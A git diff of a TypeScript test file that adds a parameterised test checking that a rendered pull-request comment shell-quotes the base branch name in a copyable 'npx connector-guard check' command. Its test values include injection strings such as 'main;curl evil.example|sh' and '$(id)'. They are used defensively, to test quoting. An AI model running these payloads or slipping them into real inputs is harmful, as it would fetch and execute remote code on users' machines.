@@ -10,8 +10,9 @@ import type { Report } from '../../../src/report/report.ts';
 import { account, approvalCase, contribution, keysSeen, removal, reviews } from '../../support/approvals.ts';
 import { checkTree, testDay } from '../../support/check-tree.ts';
 import { subjectOf } from '../../support/comment-subject.ts';
+import { hostileTexts } from '../../support/hostile-texts.ts';
 import { policyOf } from '../../support/policies.ts';
-import { fullReport, hostileReports, hostileTexts } from '../../support/reports.ts';
+import { fullReport, hostileReports } from '../../support/reports.ts';
 
 /** Markdown outside of code spans and link targets of ours: what GitHub acts on. */
 function outsideCode(markdown: string): string {
@@ -164,3 +165,15 @@ describe('an approval that is asked for', () => {
     expect(comment).toContain('   - Too few others may approve.');
   });
 });
+
+test.each([
+  ['main', 'origin/main`'],
+  ['main;curl evil.example|sh', "'origin/main;curl evil.example|sh'`"],
+  ["it's$(id)", "'origin/it'\\''s$(id)'`"],
+])(
+  'the command that people copy is one word more, whatever the branch %s is called',
+  async (baseBranch, end) => {
+    const comment = renderComment(subjectOf(await fullReport(), { baseBranch }));
+    expect(comment).toContain(`npx connector-guard check --base ${end}`);
+  },
+);
